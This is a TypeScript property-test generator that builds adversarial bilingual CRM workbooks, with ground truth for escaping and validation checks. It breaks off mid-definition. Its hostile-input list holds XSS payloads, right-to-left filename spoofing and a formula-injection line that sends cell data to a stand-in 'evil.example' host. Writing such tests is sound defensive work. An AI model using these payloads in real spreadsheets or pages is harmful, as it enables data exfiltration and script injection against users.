/**
 * fast-check arbitraries for whole adversarial workbooks, with the ground truth the hardening
 * properties need. Host-neutral on purpose: a workbook is plain JS values (strings, numbers,
 * booleans, null, and `Date`s for date cells), so the Apps Script suite seeds it into the fake
 * and the `kam` suite can write the same workbooks to .xlsx files.
 *
 * A `Date` here is a calendar day (or day and time) in **UTC terms**: `2026-03-08T00:00:00Z` means
 * "the date cell 2026-03-08". Each host converts it to its own date representation —
 * `toHostDate` below gives the Apps Script one (that wall time in the spreadsheet's zone); for
 * ExcelJS the UTC value is already what it writes.
 *
 * For the `kam` half: write `sheets` in order with ExcelJS (a `Date` as is, null as an empty
 * cell), run `kam refresh` / `kam remind --outbox DIR` with `--today` = `today`, then check the
 * same truth against the `data_issues` sheet read back (rows and header texts are the same) and
 * the `.eml` HTML parts; `shuffleRows` gives the reordered workbook and its row mapping.
 *
 * The generator knows the product's rules only as SPEC.md states them (column names, types,
 * enum labels, what a valid value is) and never imports src/, so the truth it computes is an
 * independent expectation rather than a copy of the code under test.
 */
import fc from 'fast-check';

export type Cell = string | number | boolean | Date | null;
export type Grid = Cell[][];

export interface Ymd {
  readonly y: number;
  readonly m: number;
  readonly d: number;
}

export type InputKey =
  | 'accounts'
  | 'contacts'
  | 'transactions'
  | 'interactions'
  | 'actions'
  | 'plans'
  | 'opportunities'
  | 'settings';

type Kind =
  | 'id'
  | 'ref'
  | 'text'
  | 'email'
  | 'enum'
  | 'number'
  | 'nonneg'
  | 'int15'
  | 'date'
  | 'birthday'
  | 'yesno'
  | 'currency'
  | 'period'
  | 'cadence'
  | 'percent';

interface ColSpec {
  readonly key: string;
  readonly en: string;
  readonly zh: string;
  readonly kind: Kind;
  /** A blank cell in a present row is reported as missing (docs/workbook.md, "required"). */
  readonly required?: boolean;
  /** Valid spellings of an enum (labels in both languages and the code). */
  readonly options?: readonly (readonly [string, string, string])[];
  /** Included in most generated layouts (the columns reminders depend on). */
  readonly likely?: boolean;
  /**
   * No other rule reports a problem on a valid cell of this column (unknown account, future
   * date, missing owner, … land on other columns), so any issue here is about this cell's value.
   */
  readonly quiet?: boolean;
}

const TIERS = [
  ['Strategic', '战略', 'strategic'],
  ['Key', '重点', 'key'],
  ['Standard', '普通', 'standard'],
  ['Potential', '潜在', 'potential'],
] as const;
const ACCOUNT_STATUSES = [
  ['Active', '合作中', 'active'],
  ['Prospect', '潜在', 'prospect'],
  ['Dormant', '休眠', 'dormant'],
  ['Lost', '流失', 'lost'],
] as const;
const ROLES = [
  ['Decision maker', '决策者', 'decision_maker'],
  ['Influencer', '影响者', 'influencer'],
  ['User', '使用者', 'user'],
  ['Gatekeeper', '把关者', 'gatekeeper'],
] as const;
const TYPES = [
  ['Visit', '拜访', 'visit'],
  ['Call', '电话', 'call'],
  ['Email', '邮件', 'email'],
  ['Meeting', '会议', 'meeting'],
  ['Chat', '在线沟通', 'chat'],
  ['Follow-up', '回访', 'follow_up'],
  ['Review', '回顾', 'review'],
] as const;
const COMPLAINT_STATUSES = [
  ['Open', '处理中', 'open'],
  ['Closed', '已关闭', 'closed'],
] as const;
const STAGES = [
  ['Lead', '线索', 'lead'],
  ['Qualified', '已确认', 'qualified'],
  ['Proposal', '方案', 'proposal'],
  ['Negotiation', '谈判', 'negotiation'],
  ['Won', '赢单', 'won'],
  ['Lost', '输单', 'lost'],
] as const;
const ACTION_STATUSES = [
  ['Not started', '未开始', 'not_started'],
  ['In progress', '进行中', 'in_progress'],
  ['Done', '已完成', 'done'],
  ['Blocked', '受阻', 'blocked'],
] as const;

const col = (
  key: string,
  en: string,
  zh: string,
  kind: Kind,
  extra: Partial<ColSpec> = {},
): ColSpec => ({ key, en, zh, kind, ...extra });

/** The user columns of each input sheet (docs/workbook.md–2.6). */
export const INPUT_SHEETS: Readonly<
  Record<Exclude<InputKey, 'settings'>, { en: string; zh: string; columns: readonly ColSpec[] }>
> = {
  accounts: {
    en: 'Accounts',
    zh: '客户',
    columns: [
      col('account_id', 'Account ID', '客户编号', 'id', { required: true }),
      col('account_name', 'Account Name', '客户名称', 'text', { required: true }),
      col('parent_account_id', 'Parent Account ID', '上级客户编号', 'ref'),
      col('industry', 'Industry', '行业', 'text'),
      col('region', 'Region', '地区', 'text'),
      col('address', 'Address', '地址', 'text'),
      col('owner_email', 'Owner Email', '负责人邮箱', 'email', { likely: true }),
      col('backup_owner_email', 'Backup Owner Email', '备份负责人邮箱', 'email', { quiet: true }),
      col('tier', 'Tier', '客户级别', 'enum', { options: TIERS, quiet: true, likely: true }),
      col('status', 'Status', '状态', 'enum', {
        options: ACCOUNT_STATUSES,
        quiet: true,
        likely: true,
      }),
      col('credit_limit', 'Credit Limit', '信用额度', 'nonneg', { quiet: true }),
      col('next_action_date', 'Next Action Date', '下次跟进日期', 'date', { quiet: true }),
      col('reminders_paused_until', 'Reminders Paused Until', '暂停提醒至', 'date', {
        quiet: true,
      }),
      col('notes', 'Notes', '备注', 'text'),
    ],
  },
  contacts: {
    en: 'Contacts',
    zh: '联系人',
    columns: [
      col('account_id', 'Account ID', '客户编号', 'ref'),
      col('name', 'Name', '姓名', 'text', { required: true }),
      col('title', 'Title', '职位', 'text'),
      col('email', 'Email', '邮箱', 'email', { quiet: true }),
      col('phone', 'Phone', '电话', 'text'),
      col('role', 'Role', '角色', 'enum', { options: ROLES, quiet: true }),
      col('influence', 'Influence', '影响力', 'int15', { quiet: true }),
      col('relationship', 'Relationship', '关系强度', 'int15', { quiet: true }),
      col('birthday', 'Birthday', '生日', 'birthday', { quiet: true }),
      col('notes', 'Notes', '备注', 'text'),
    ],
  },
  transactions: {
    en: 'Transactions',
    zh: '交易记录',
    columns: [
      col('date', 'Date', '交易日期', 'date', { required: true }),
      col('account_id', 'Account ID', '客户编号', 'ref', { required: true }),
      col('product', 'Product', '产品', 'text'),
      col('quantity', 'Quantity', '数量', 'number', { quiet: true }),
      col('unit_price', 'Unit Price', '单价', 'number', { quiet: true }),
      col('amount', 'Amount', '金额', 'number', { likely: true }),
      col('currency', 'Currency', '币种', 'currency'),
      col('payment_due_date', 'Payment Due Date', '应付款日期', 'date', { quiet: true }),
      col('paid_date', 'Paid Date', '付款日期', 'date', { quiet: true }),
      col('notes', 'Notes', '备注', 'text'),
    ],
  },
  interactions: {
    en: 'Interactions',
    zh: '互动记录',
    columns: [
      col('date', 'Date', '日期', 'date', { required: true }),
      col('account_id', 'Account ID', '客户编号', 'ref', { required: true }),
      col('type', 'Type', '类型', 'enum', { options: TYPES, quiet: true }),
      col('owner_email', 'Recorded By', '记录人邮箱', 'email', { quiet: true }),
      col('summary', 'Summary', '摘要', 'text'),
      col('next_step', 'Next Step', '下一步', 'text'),
      col('satisfaction', 'Satisfaction', '满意度', 'int15', { quiet: true }),
      col('complaint', 'Complaint', '投诉', 'yesno', { quiet: true }),
      col('complaint_status', 'Complaint Status', '投诉状态', 'enum', {
        options: COMPLAINT_STATUSES,
        quiet: true,
      }),
    ],
  },
  actions: {
    en: 'Action Plan',
    zh: '行动计划',
    columns: [
      col('task', 'Task', '任务', 'text', { required: true }),
      col('account_id', 'Account ID', '客户编号', 'ref'),
      col('owner_email', 'Owner Email', '负责人邮箱', 'email', { quiet: true, likely: true }),
      col('start_date', 'Start Date', '开始日期', 'date', { quiet: true }),
      col('due_date', 'Due Date', '截止日期', 'date', { quiet: true, likely: true }),
      col('status', 'Status', '状态', 'enum', { options: ACTION_STATUSES, quiet: true }),
      col('completed_date', 'Completed Date', '完成日期', 'date', { quiet: true }),
      col('outcome', 'Outcome', '成果', 'text'),
    ],
  },
  plans: {
    en: 'Account Plans',
    zh: '客户计划',
    columns: [
      // Required by the rules (a plan belongs to an account), not by the header.
      col('account_id', 'Account ID', '客户编号', 'ref', { required: true }),
      col('period', 'Period', '周期', 'period'),
      col('challenges', 'Challenges', '主要挑战', 'text'),
      col('goals', 'Goals', '期望目标', 'text'),
      col('special_requirements', 'Special Requirements', '特殊要求', 'text'),
      col('value_proposition', 'Value Proposition', '价值主张', 'text'),
      col('revenue_target', 'Revenue Target', '收入目标', 'nonneg', { quiet: true }),
      col('next_review_date', 'Next Review Date', '下次回顾日期', 'date', { quiet: true }),
      col('review_cadence_months', 'Review Cadence (months)', '回顾周期（月）', 'cadence', {
        quiet: true,
      }),
    ],
  },
  opportunities: {
    en: 'Opportunities',
    zh: '销售机会',
    columns: [
      // Required and unique: a repeated row repeats its ID (a duplicate_id issue, not quiet).
      col('opportunity_id', 'Opportunity ID', '机会编号', 'text', { required: true }),
      col('account_id', 'Account ID', '客户编号', 'ref', { required: true }),
      col('name', 'Name', '机会名称', 'text'),
      col('owner_email', 'Owner Email', '负责人邮箱', 'email'),
      col('stage', 'Stage', '阶段', 'enum', { options: STAGES, quiet: true }),
      col('amount', 'Amount', '金额', 'nonneg', { quiet: true }),
      col('currency', 'Currency', '币种', 'currency'),
      col('probability', 'Probability', '赢率', 'percent', { quiet: true }),
      col('expected_close_date', 'Expected Close', '预计成交日期', 'date', { quiet: true }),
      col('stage_changed_date', 'Stage Changed', '阶段变更日期', 'date', { quiet: true }),
      col('closed_date', 'Closed Date', '成交日期', 'date', { quiet: true }),
      col('lost_reason', 'Lost Reason', '输单原因', 'text'),
    ],
  },
};

/** Headers of the user's own columns: none of them matches a column name of any sheet. */
export const EXTRA_HEADERS = [
  'My column',
  '我的列',
  'Σ Score ✓',
  '=SUM(A:A)',
  '<b>Extra</b>',
  'Remarks 2',
  '',
] as const;

// ---------------------------------------------------------------------------------------------
// Values

/** Text people paste into sheets, chosen to break HTML, formulas, bidi and type guessing. */
export const NASTY_TEXT: readonly string[] = [
  '<script>alert("kam")</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><kamx>",
  '</td></tr></table><h1>big</h1>',
  '<a href="javascript:alert(1)">click</a>',
  '<!-- comment --><style>body{display:none}</style>',
  '&lt;already escaped&gt; &amp;',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=1+1',
  '+86 21 5555 0000',
  '-42',
  '@mention',
  "'quoted",
  '00123',
  '1e5',
  'TRUE',
  'false',
  '2026-01-01',
  '50%',
  '1,234',
  '😀 emoji 👍🏽 family 👨‍👩‍👧',
  'עברית שלום',
  'مرحبا بالعالم',
  '\u202Egnp.exe',
  'abc\u202Edef\u2066x',
  '上海某某贸易有限公司',
  '  padded  ',
  'line1\nline2',
  'tab\tsep',
  'x'.repeat(300),
];

/** Text that is never blank. */
const textArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY_TEXT) },
  { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 12, unit: 'grapheme' }) },
  { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 10 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...NASTY_TEXT), fc.constantFrom(...NASTY_TEXT))
      .map(([a, b]) => `${a} ${b}`),
  },
);

/** Owners: inside the allowed domains, outside them, and look-alikes of them. */
export const VALID_EMAILS: readonly string[] = [
  'li@example.com',
  'Wang@Example.COM',
  'zhao@sales.example.com',
  ' chen@example.com ',
  'mailto:sun@example.com',
  "o'neil&co@example.com",
  'x+tag@partner.cn',
  'mallory@evil.org',
  'eve@example.com.evil.org',
  'bob@badexample.com',
  'ann@examplecom.cn',
];

/** Not one address (docs/rules.md "Reading values"): reported, never emailed. */
export const INVALID_EMAILS: readonly Cell[] = [
  'not an email',
  'li@',
  '@example.com',
  'li@example',
  'li@example.com, wang@example.com',
  'Li <li@example.com>',
  'li@@example.com',
  '<script>alert(1)</script>@example.com',
  '"><img src=x>@example.com',
  42,
  true,
];

const dayMs = 86_400_000;
const MIN_DAY = Date.UTC(1900, 0, 1) / dayMs;
const MAX_DAY = Date.UTC(2100, 11, 31) / dayMs;

export function ymdOfDay(day: number): Ymd {
  const t = new Date(day * dayMs);
  return { y: t.getUTCFullYear(), m: t.getUTCMonth() + 1, d: t.getUTCDate() };
}

export function dayOfYmd(v: Ymd): number {
  return Date.UTC(v.y, v.m - 1, v.d) / dayMs;
}

/** A date anywhere in 1900–2100, mostly near `today` (within about two years before it). */
function dayArb(today: number): fc.Arbitrary<number> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.integer({ min: today - 800, max: today + 20 }) },
    { weight: 1, arbitrary: fc.integer({ min: MIN_DAY, max: MAX_DAY }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        MIN_DAY,
        MAX_DAY,
        dayOfYmd({ y: 2000, m: 2, d: 29 }),
        dayOfYmd({ y: 1970, m: 1, d: 1 }),
        today,
        today - 1,
        today + 1,
      ),
    },
  );
}

const pad2 = (n: number): string => String(n).padStart(2, '0');

/** A valid date in one of the forms people use: a date cell (sometimes with a time) or text. */
/**
 * A plan period as people write it: this or last year, a quarter (`2026-Q4`, `2026-q4`), a
 * month, or free text (no current target, never a data issue).
 */
function periodArb(today: number): fc.Arbitrary<Cell> {
  const { y, m } = ymdOfDay(today);
  const q = Math.floor((m - 1) / 3) + 1;
  const mm = String(m).padStart(2, '0');
  return fc.oneof(
    fc.constantFrom<Cell>(String(y), `${y}-Q${q}`, `${y}-q${q}`, `${y}-${mm}`, y, `${y - 1}`),
    fc.constantFrom<Cell>(`${y}-Q5`, `${y}-13`, 'FY26', ' 2026 '),
    textArb,
  );
}

function dateCellArb(today: number): fc.Arbitrary<Cell> {
  return fc
    .tuple(dayArb(today), fc.integer({ min: 0, max: 6 }), fc.integer({ min: 0, max: 86_399 }))
    .map(([day, form, secs]) => {
      const { y, m, d } = ymdOfDay(day);
      switch (form) {
        case 0:
        case 1:
          return new Date(day * dayMs);
        case 2:
          return new Date(day * dayMs + secs * 1000);
        case 3:
          return `${y}-${pad2(m)}-${pad2(d)}`;
        case 4:
          return `${y}/${m}/${d}`;
        case 5:
          return `${y}年${m}月${d}日`;
        default:
          return ` ${y}-${m}-${d} `;
      }
    });
}

const INVALID_DATES: readonly Cell[] = [
  '2026/13/45',
  '2026-02-30',
  '1900-02-29',
  'yesterday',
  '5/1/2026',
  '明天',
  '<b>2026-01-01</b>',
  '=TODAY()',
  45000,
  true,
];

const INVALID_BIRTHDAYS: readonly Cell[] = [
  'soon',
  '13-45',
  '02-30',
  '2月30日',
  '=TODAY()',
  7,
  false,
];

function birthdayArb(today: number): fc.Arbitrary<Cell> {
  return fc.oneof(
    dateCellArb(today),
    fc
      .tuple(
        fc.integer({ min: 1, max: 12 }),
        fc.integer({ min: 1, max: 28 }),
        fc.integer({ min: 0, max: 3 }),
      )
      .map(([m, d, form]) =>
        form === 0
          ? `${pad2(m)}-${pad2(d)}`
          : form === 1
            ? `--${pad2(m)}-${pad2(d)}`
            : form === 2
              ? `${m}月${d}日`
              : `${m}/${d}`,
      ),
    fc.constant('02-29'),
  );
}

/** Numbers as cells and as text with separators and currency signs (docs/rules.md). */
function numberArb(min: number | null): fc.Arbitrary<Cell> {
  const lo = min ?? -1e6;
  return fc.oneof(
    { weight: 4, arbitrary: fc.integer({ min: Math.ceil(lo), max: 1_000_000 }) },
    {
      weight: 2,
      arbitrary: fc.integer({ min: Math.max(lo * 100, -1e8), max: 1e8 }).map((c) => c / 100),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Cell>(0, 1e15, 1e300, 5e-324, 1e-300, 123456789.123456, 2 ** 53),
    },
    {
      weight: 1,
      arbitrary: min === null ? fc.constantFrom<Cell>(-1e15, -0.01, -1e300) : fc.constant<Cell>(0),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom<Cell>(
        '¥1,200',
        'USD 1,200',
        '1 200 EUR',
        '$3.50',
        ' 42 ',
        '￥88',
        '1e5',
        '€ 7,000.25',
      ),
    },
  );
}

const INVALID_NUMBERS: readonly Cell[] = [
  'lots',
  '1,2,3',
  'N/A',
  '12abc',
  '=1+1',
  '1.2.3',
  'Infinity',
  '0x10',
  '¥',
  true,
];

const INVALID_INT15: readonly Cell[] = [0, 6, -1, 2.5, '4.5', 'high', '=5', 100];

const YESNO_VALID: readonly Cell[] = [
  'yes',
  'No',
  '是',
  '否',
  'TRUE',
  'false',
  'Y',
  'x',
  '✓',
  1,
  0,
  true,
  false,
];
const YESNO_INVALID: readonly Cell[] = ['maybe', 2, '投诉', '<b>yes</b>?'];

const INVALID_ENUMS: readonly Cell[] = ['Gold', '白金', '<b>VIP</b>', '=1+1', 42, true, '99'];

/** Spellings of an enum value people type: either label or the code, in any case. */
function enumArb(options: readonly (readonly [string, string, string])[]): fc.Arbitrary<Cell> {
  return fc
    .tuple(fc.constantFrom(...options), fc.integer({ min: 0, max: 4 }))
    .map(([o, form]) =>
      form === 0
        ? o[0]
        : form === 1
          ? o[1]
          : form === 2
            ? o[2]
            : form === 3
              ? o[0].toUpperCase()
              : ` ${o[0].toLowerCase()} `,
    );
}

const CURRENCIES: readonly Cell[] = [null, null, 'CNY', 'USD', 'usd', 'EUR', 'JPY', '<b>$</b>'];

/** One cell of a column: its value and whether it is invalid by its column's type. */
interface GenCell {
  readonly value: Cell;
  readonly invalid: boolean;
}

const ok = (value: Cell): GenCell => ({ value, invalid: false });
const bad = (value: Cell): GenCell => ({ value, invalid: true });

function withInvalid(
  valid: fc.Arbitrary<Cell>,
  invalid: readonly Cell[] | null,
  blankWeight = 1,
): fc.Arbitrary<GenCell> {
  const arbs: fc.WeightedArbitrary<GenCell>[] = [
    { weight: 12, arbitrary: valid.map(ok) },
    { weight: blankWeight, arbitrary: fc.constant(ok(null)) },
  ];
  if (invalid) arbs.push({ weight: 2, arbitrary: fc.constantFrom(...invalid).map(bad) });
  return fc.oneof(...arbs);
}

function cellArb(
  spec: ColSpec,
  ctx: { today: number; ids: readonly Cell[] },
): fc.Arbitrary<GenCell> {
  switch (spec.kind) {
    case 'id':
      throw new Error('ids are assigned, not generated');
    case 'ref': {
      const known = ctx.ids.filter((id) => id !== null);
      const refs: fc.Arbitrary<Cell>[] = [fc.constantFrom<Cell>('ZZ-unknown', '<b>nope</b>')];
      if (known.length > 0) {
        refs.push(
          fc.constantFrom(...known),
          fc.constantFrom(...known),
          fc.constantFrom(...known).map((id) => ` ${String(id)} `),
        );
      }
      return withInvalid(fc.oneof(...refs), null, spec.required ? 1 : 3);
    }
    case 'text':
      return withInvalid(textArb, null, 2);
    case 'currency':
      return fc.constantFrom(...CURRENCIES).map(ok);
    case 'email':
      return withInvalid(fc.constantFrom<Cell>(...VALID_EMAILS), INVALID_EMAILS);
    case 'enum':
      return withInvalid(enumArb(spec.options ?? []), INVALID_ENUMS);
    case 'number':
      return withInvalid(numberArb(null), INVALID_NUMBERS, 2);
    case 'nonneg':
      return withInvalid(numberArb(0), [...INVALID_NUMBERS, -1, -0.5, '-1,000']);
    case 'int15':
      return withInvalid(
        fc.oneof(fc.integer({ min: 1, max: 5 }), fc.constantFrom<Cell>('3', ' 5 ', 4.0)),
        INVALID_INT15,
      );
    case 'date':
      return withInvalid(dateCellArb(ctx.today), INVALID_DATES);
    case 'birthday':
      return withInvalid(birthdayArb(ctx.today), INVALID_BIRTHDAYS);
    case 'yesno':
      return withInvalid(fc.constantFrom(...YESNO_VALID), YESNO_INVALID);
    case 'period':
      return withInvalid(periodArb(ctx.today), null, 2);
    case 'percent':
      return withInvalid(
        fc.oneof(fc.integer({ min: 0, max: 100 }), fc.constantFrom<Cell>(0.35, ' 60 ', 75.5)),
        [101, -5, 'likely', 250],
      );
    case 'cadence':
      return withInvalid(
        fc.oneof(fc.integer({ min: 1, max: 60 }), fc.constantFrom<Cell>(' 6 ', '12', 3.0)),
        [0, 61, 2.5, 'monthly', -3, '季度'],
      );
  }
}

// ---------------------------------------------------------------------------------------------
// Workbooks

/** Where a cell is, as `data_issues` names it: sheet name, row number, header as written (trimmed). */
export interface CellRef {
  readonly sheet: string;
  readonly row: number;
  readonly column: string;
  readonly value: Cell;
}

export interface GeneratedSheet {
  readonly key: InputKey;
  readonly name: string;
  /** Header row first. */
  readonly rows: Grid;
  /** Column key per column of the grid; null for the user's own columns. */
  readonly keys: readonly (string | null)[];
}

export interface Truth {
  /**
   * Cells that are wrong by themselves: a value that is not of its column's type, a blank
   * required value in a row that holds something, an invalid setting or rate. Each must be
   * reported exactly once, at its own sheet, row and column.
   */
  readonly invalid: readonly CellRef[];
  /** `sheet\u0000column` of columns where a valid cell gets no issue at all (see ColSpec.quiet). */
  readonly quietColumns: ReadonlySet<string>;
  /** Account IDs as read (text, trimmed), each once: the rows that make an account. */
  readonly accountIds: readonly string[];
  /** `allowed_recipient_domains` as written in Settings, parsed (lower case, no `@`). */
  readonly allowed: readonly string[];
  /** Every text a user typed that contains markup, for the escaping checks. */
  readonly markup: readonly string[];
}

export interface GeneratedWorkbook {
  /** "Today", a calendar day in the spreadsheet's time zone. */
  readonly today: Ymd;
  /** The spreadsheet locale (en_US / zh_CN); Settings `language` may override it. */
  readonly locale: 'en_US' | 'zh_CN';
  readonly sheets: readonly GeneratedSheet[];
  readonly truth: Truth;
}

type RowItem =
  | { kind: 'normal'; cells: GenCell[]; extras: Cell[] }
  | { kind: 'blank' }
  | { kind: 'extra'; extras: Cell[] }
  | { kind: 'dup'; of: number };

const spellings = ['en', 'zh', 'key', 'upper', 'padded'] as const;
type Spelling = (typeof spellings)[number];

function spell(c: { key: string; en: string; zh: string }, s: Spelling): string {
  switch (s) {
    case 'en':
      return c.en;
    case 'zh':
      return c.zh;
    case 'key':
      return c.key;
    case 'upper':
      return c.en.toUpperCase();
    case 'padded':
      return `  ${c.en} `;
  }
}

function sheetNameArb(s: { key: string; en: string; zh: string }): fc.Arbitrary<string> {
  return fc.constantFrom(s.en, s.zh, s.key, s.en.toLowerCase());
}

const isBlankCell = (v: Cell): boolean => v === null || (typeof v === 'string' && v.trim() === '');

const hasMarkup = (v: Cell): v is string => typeof v === 'string' && /[<>&"']/.test(v);

/** The columns of one sheet: required ones, a subset of the others and some of the user's own, in any order. */
function layoutArb(
  columns: readonly ColSpec[],
  maxExtras: number,
): fc.Arbitrary<{ spec: ColSpec | null; header: string }[]> {
  const required = columns.filter((c) => c.required);
  const optional = columns.filter((c) => !c.required);
  const include = (c: ColSpec): fc.Arbitrary<boolean> =>
    c.likely
      ? fc.oneof(
          { weight: 6, arbitrary: fc.constant(true) },
          { weight: 1, arbitrary: fc.constant(false) },
        )
      : fc.boolean();
  return fc
    .tuple(
      fc.tuple(...optional.map(include)).map((on) => optional.filter((_, i) => on[i])),
      fc.subarray([...EXTRA_HEADERS], { maxLength: maxExtras }),
      fc.array(fc.constantFrom(...spellings), {
        minLength: columns.length,
        maxLength: columns.length,
      }),
    )
    .chain(([opt, extras, spell_]) => {
      const all: { spec: ColSpec | null; header: string }[] = [
        ...[...required, ...opt].map((c) => ({
          spec: c,
          header: spell(c, spell_[columns.indexOf(c)]),
        })),
        ...extras.map((h) => ({ spec: null, header: h })),
      ];
      return fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length });
    });
}

function rowsArb(
  layout: readonly { spec: ColSpec | null; header: string }[],
  ctx: { today: number; ids: readonly Cell[] },
  maxRows: number,
  idColumn: boolean,
): fc.Arbitrary<RowItem[]> {
  const extrasArb = fc.tuple(
    ...layout.map((c) => (c.spec === null ? fc.option(textArb, { nil: null }) : fc.constant(null))),
  );
  const normal = fc
    .tuple(
      fc.tuple(
        ...layout.map((c) =>
          c.spec === null || c.spec.kind === 'id' ? fc.constant(ok(null)) : cellArb(c.spec, ctx),
        ),
      ),
      extrasArb,
    )
    .map(([cells, extras]): RowItem => ({ kind: 'normal', cells, extras }));
  const items = fc.oneof(
    { weight: 14, arbitrary: normal },
    { weight: 1, arbitrary: fc.constant<RowItem>({ kind: 'blank' }) },
    { weight: 1, arbitrary: extrasArb.map((extras): RowItem => ({ kind: 'extra', extras })) },
    // Duplicate rows are exact copies; in accounts they repeat an ID (a duplicate_id issue).
    { weight: idColumn ? 1 : 2, arbitrary: fc.nat().map((of): RowItem => ({ kind: 'dup', of })) },
  );
  return fc.array(items, { maxLength: maxRows });
}

interface Built {
  sheet: GeneratedSheet;
  invalid: CellRef[];
  markup: string[];
  /** Account IDs of rows that make an account (accounts only). */
  accountIds: string[];
}

/**
 * Materializes rows: assigns account IDs (accounts only, in order), resolves duplicates, and
 * computes which cells are invalid. `ids` are the accounts sheet's IDs in row order (null: blank).
 */
function buildSheet(
  key: Exclude<InputKey, 'settings'>,
  name: string,
  layout: readonly { spec: ColSpec | null; header: string }[],
  items: readonly RowItem[],
  ids: readonly Cell[],
): Built {
  const width = layout.length;
  const rows: Grid = [layout.map((c) => c.header)];
  const flags: boolean[][] = [new Array<boolean>(width).fill(false)];
  const normals: number[] = []; // indexes into rows
  let nextId = 0;
  for (const item of items) {
    if (item.kind === 'blank') {
      rows.push(new Array<Cell>(width).fill(null));
      flags.push(new Array<boolean>(width).fill(false));
    } else if (item.kind === 'extra') {
      rows.push(item.extras.slice());
      flags.push(new Array<boolean>(width).fill(false));
    } else if (item.kind === 'dup') {
      if (normals.length === 0) continue;
      const src = normals[item.of % normals.length];
      rows.push(rows[src].slice());
      flags.push(flags[src].slice());
    } else {
      const row: Cell[] = [];
      const f: boolean[] = [];
      layout.forEach((c, i) => {
        if (c.spec === null) {
          row.push(item.extras[i]);
          f.push(false);
        } else if (c.spec.kind === 'id') {
          row.push(nextId < ids.length ? ids[nextId] : null);
          f.push(false);
        } else {
          row.push(item.cells[i].value);
          f.push(item.cells[i].invalid);
        }
      });
      nextId++;
      normals.push(rows.length);
      rows.push(row);
      flags.push(f);
    }
  }
  // Accounts: every ID gets a row, even when the generated row list was shorter.
  if (key === 'accounts') {
    while (nextId < ids.length) {
      const row = layout.map((c) =>
        c.spec?.kind === 'id'
          ? ids[nextId]
          : c.spec?.key === 'account_name'
            ? `Account ${nextId}`
            : null,
      );
      nextId++;
      rows.push(row);
      flags.push(new Array<boolean>(width).fill(false));
    }
  }

  const invalid: CellRef[] = [];
  const markup: string[] = [];
  const accountIds: string[] = [];
  const seen = new Set<string>();
  for (let r = 1; r < rows.length; r++) {
    const row = rows[r];
    // A row counts when any known column holds something (the user's own columns do not count).
    const present = layout.some((c, i) => c.spec !== null && !isBlankCell(row[i]));
    layout.forEach((c, i) => {
      const v = row[i];
      if (hasMarkup(v)) markup.push(v);
      if (c.spec === null || !present) return;
      const blankRequired = c.spec.required === true && isBlankCell(v);
      if (flags[r][i] || blankRequired)
        invalid.push({ sheet: name, row: r + 1, column: c.header.trim(), value: v });
    });
    if (key === 'accounts' && present) {
      const idAt = layout.findIndex((c) => c.spec?.key === 'account_id');
      const nameAt = layout.findIndex((c) => c.spec?.key === 'account_name');
      const id = isBlankCell(row[idAt]) ? null : String(row[idAt]).trim();
      if (id !== null && !isBlankCell(row[nameAt]) && !seen.has(id)) {
        seen.add(id);
        accountIds.push(id);
      }
    }
  }
  return {
    sheet: { key, name, rows, keys: layout.map((c) => c.spec?.key ?? null) },
    invalid,
    markup,
    accountIds,
  };
}

/** Account IDs: ordinary ones and ones Sheets would take for a formula, number, date or markup. */
const idArb: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: 1, max: 999 }).map((n) => `A${n}`) },
  {
    weight: 3,
    arbitrary: fc.constantFrom<Cell>(
      '00123',
      '=SUM(1,2)',
      '+86',
      '-x',
      '@home',
      '<b>id</b>',
      'TRUE',
      '客户-1',
      '🙂',
      'עב-1',
      "'007",
      '2026-01-01',
      'A 1',
      '1e5',
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 99_999 }) },
);

interface SettingRow {
  readonly key: string;
  readonly value: Cell;
  readonly invalid: boolean;
}

const ALLOWED_SETTINGS: readonly { text: string; parsed: string[] }[] = [
  { text: 'example.com', parsed: ['example.com'] },
  { text: 'example.com, partner.cn', parsed: ['example.com', 'partner.cn'] },
  { text: '@example.com；partner.cn', parsed: ['example.com', 'partner.cn'] },
  { text: 'EXAMPLE.com', parsed: ['example.com'] },
  { text: 'sales.example.com', parsed: ['sales.example.com'] },
];

const OPTIONAL_SETTINGS: readonly fc.Arbitrary<SettingRow>[] = [
  fc
    .constantFrom('en', 'zh-CN', 'auto', '中文', 'English')
    .map((v) => ({ key: 'language', value: v, invalid: false })),
  fc
    .constantFrom('boss@example.com', 'boss@evil.org', 'Boss@Sales.Example.com')
    .map((v) => ({ key: 'escalation_cc', value: v, invalid: false })),
  textArb.map((v) => ({ key: 'reminder_sender_name', value: v, invalid: false })),
  fc
    .constantFrom<Cell>(7, '30', 'soon', -3)
    .map((v) => ({ key: 'stale_days_a', value: v, invalid: v === 'soon' || v === -3 })),
  fc
    .constantFrom<Cell>(3, 'twelve', 500)
    .map((v) => ({ key: 'analysis_window_months', value: v === 3 ? 12 : v, invalid: v !== 3 })),
  fc.constantFrom<Cell>(8, 25).map((v) => ({ key: 'reminder_hour', value: v, invalid: v === 25 })),
  fc
    .constantFrom<Cell>(0, 90)
    .map((v) => ({ key: 'recycle_after_days', value: v, invalid: false })),
  fc
    .constantFrom<Cell>('CNY', '人民币')
    .map((v) => ({ key: 'home_currency', value: v, invalid: v !== 'CNY' })),
  // The risk settings (docs/rules.md "Risk flags") and the manager digest's.
  fc
    .constantFrom<Cell>(0.3, '0.5', 0, 1.5, 'much')
    .map((v) => ({ key: 'revenue_drop_pct', value: v, invalid: v === 1.5 || v === 'much' })),
  fc
    .constantFrom<Cell>(7, '14', 0, -1, 'a week')
    .map((v) => ({ key: 'complaint_sla_days', value: v, invalid: v === -1 || v === 'a week' })),
  fc
    .constantFrom<Cell>(0.1, 0, 2)
    .map((v) => ({ key: 'plan_tolerance', value: v, invalid: v === 2 })),
  fc
